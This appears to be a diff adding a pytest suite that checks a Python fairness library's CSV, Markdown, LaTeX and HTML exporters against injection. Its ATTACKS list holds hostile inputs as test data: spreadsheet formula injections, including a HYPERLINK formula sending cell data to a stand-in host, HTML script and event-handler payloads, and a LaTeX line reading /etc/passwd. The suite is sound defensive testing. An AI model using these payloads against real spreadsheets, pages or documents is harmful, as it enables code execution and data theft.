@@ -1,0 +1,181 @@
+"""What leaves a run is text in every format, whatever a name holds.
+
+One list of attacks goes as every name and text through every exporter.
+"""
+
+import csv
+import html.parser
+import io
+import json
+import pathlib
+import re
+import string
+
+import numpy as np
+import pandas as pd
+import pytest
+from conftest import make_hostile
+
+from fairjax import assessments, escape, results
+from fairjax.report import documents, page
+
+ROOT = pathlib.Path(escape.__file__).parent
+ATTACKS = (
+  *("=cmd|'/C calc'!A0", '+1+cmd', '-2+3', '@SUM(A1)', '\t=1', '  =1+1'),
+  *('＝1+1', '=HYPERLINK("https://e.vil/?"&A1)', '\r\n=1', '|a|b|'),
+  *('<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '<b>b</b>'),
+  *("' onmouseover='alert(1)", '</style><svg onload=alert(1)>', '&lt;b&gt;'),
+  *('[click](https://e.vil)', '![x](http://e.vil/p.png)', '<https://e.vil>'),
+  *('https://e.vil', 'www.e.vil', 'me@e.vil', '[a]: https://e.vil', '# big'),
+  *('`x` **b** __b__ ~~s~~', '$x$', '\\input{/etc/passwd}', '[-99cm] a'),
+  *('\\end{tabular}', '* x', '%', 'a & b \\\\', '{', '^^5cinput'),
+  *('---\nresults: []', '\x1b[31m', '\u202egnp', '"; x: \''),
+)
+
+
+class Tags(html.parser.HTMLParser):
+  def __init__(self, page):
+    super().__init__()
+    self.found = []
+    self.feed(page)
+
+  def handle_starttag(self, tag, attributes):
+    self.found.append((tag, dict(attributes)))
+
+
+def check_html(text, where):
+  for tag, attributes in Tags(text).found:
+    assert tag not in ('script', 'img', 'iframe', 'object', 'b!'), where
+    assert not [k for k in attributes if k.startswith('on')], where
+    link = attributes.get('href', '#')
+    assert link.startswith(('#', 'data:')) or 'e.vil' not in link, where
+
+
+def check_csv(text, where):
+  for row in csv.reader(io.StringIO(text)):
+    for cell in row:
+      bare = cell.lstrip()
+      if bare[:1] in tuple('=+-@＝＋－＠') and bare:
+        float(cell)  # a number, or it would run
+      assert cell[:1] not in tuple('\t\r\n'), where
+
+
+def check_markdown(text, where):
+  """As GFM reads it: no tag, link, heading, code or emphasis that is ours."""
+  front, _, body = text.removeprefix('---\n').partition('\n---\n')
+  for line in front.splitlines():
+    assert re.fullmatch(r'[ -]*[\w-]+:( ("([^"\\]|\\.)*"|[^"]*))?', line), line
+  body = re.sub(r'\\[' + re.escape(string.punctuation) + ']', '', body)
+  for wrong in (
+    r'<[a-z/!]',
+    '`',
+    r'\]\(',
+    r'\]:',
+    '://',
+    r'www\.',
+    '@e',
+    r'\*',
+  ):
+    assert not re.search(wrong, body), (where, wrong)
+  heads = [line for line in body.splitlines() if line.startswith('#')]
+  assert len(heads) == 10, where
+
+
+def check_tex(text, where):
+  """Rows of as many cells as there are columns; no command but ours."""
+  ours = {'begin', 'end', 'toprule', 'midrule', 'bottomrule'}
+  ours |= {'textbackslash', 'textasciitilde', 'textasciicircum'}
+  lines = [line for line in text.splitlines() if line[:1] != '%']
+  for line in lines:
+    line = re.sub(r'\\[&%$#_{}]', '', line)
+    assert set(re.findall(r'\\([a-zA-Z]+)', line)) <= ours, where
+    assert not re.search(r'[%$#~^]', line), where
+    assert not re.match(r'[\[*]', line), where
+  columns = [re.search(r'tabular}{(l[r]*)}', line) for line in lines]
+  width = [len(found[1]) for found in columns if found]
+  for line in lines:
+    if line.endswith(r'\\'):
+      cells = re.sub(r'\\&', '', line).count('&') + 1
+      assert cells in width, where
+
+
+@pytest.fixture(scope='module')
+def plain_run(tmp_path_factory):
+  return make_hostile(tmp_path_factory.mktemp('plain'), 'MARKER')
+
+
+@pytest.mark.parametrize('attack', ATTACKS)
+def test_every_document(attack, plain_run):
+  text = json.dumps(results.plain(results.read(plain_run)))
+  spelled = json.dumps(attack)[1:-1]
+  found = results.of(json.loads(text.replace('MARKER', spelled)))
+  checks = {'.csv': check_csv, '.md': check_markdown, '.tex': check_tex}
+  every = documents.of(found)
+  assert {pathlib.Path(n).suffix for n in every} >= set(checks)
+  for name, text in every.items():
+    assert re.fullmatch(r'[\w.]+', name)
+    check = checks.get(pathlib.Path(name).suffix)
+    if check:
+      check(text, name)
+  check_html(documents.links(every), 'links')
+
+
+def test_the_page(tmp_path):
+  """All attacks at once: pictures take their time."""
+  folder = make_hostile(tmp_path, ' '.join(ATTACKS))
+  found = page.report(folder)
+  check_html(found, 'page')
+  policy = re.search(r'Security-Policy" content="([^"]+)"', found)[1]
+  assert "default-src 'none'" in policy and 'script' not in policy
+  assert '<meta name="referrer" content="no-referrer">' in found
+  # What the policy allows is what the page has.
+  assert not re.search(r'(src|href)="https?:|@import|url\([^#]', found)
+
+
+@pytest.mark.parametrize('attack', ATTACKS)
+def test_tables_of_the_library(attack):
+  frame = pd.DataFrame({attack: [attack, '-0.5', 'plain'], 'n': [1, 2.5, None]})
+  text = escape.csv(frame)
+  check_csv(text, 'csv')
+  again = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
+  assert list(again.iloc[1:, 0]) == ['-0.5', 'plain']
+  assert again.iloc[0, 0] in (attack, f"'{attack}")
+  shown = assessments.Comparison(
+    [
+      {
+        'measure': attack,
+        'difference': {'value': 0.1},
+        'p': 0.5,
+        'test': attack,
+      }
+    ]
+  )
+  check_html(shown._repr_html_(), 'notebook')
+
+
+def test_numbers_stay_numbers():
+  rows = [{'a': -1.5, 'b': np.float64(2), 'c': None, 'd': float('nan')}]
+  assert escape.csv(rows) == 'a,b,c,d\n-1.5,2.0,,\n'
+  assert escape.csv([]) == ''
+
+
+# Files that are read again, by us or by the user's own program: as they are.
+RAW = {
+  *('recipes/audit.py', 'pairs/flow_words.py', 'scores/table.py'),
+  'benchmarks/planted_associations.py',
+}
+
+
+def test_every_exporter_uses_the_door():
+  second = re.compile(
+    r'html\.escape|import html|to_csv\(|csv\.(Dict)?[wW]riter'
+    r'|to_(latex|markdown)\(|textbackslash'
+  )
+  others = {
+    str(path.relative_to(ROOT))
+    for path in ROOT.rglob('*.py')
+    if path.parent.name != 'bench'
+    and path.name != 'escape.py'
+    and second.search(path.read_text(encoding='utf-8'))
+  }
+  assert others == RAW
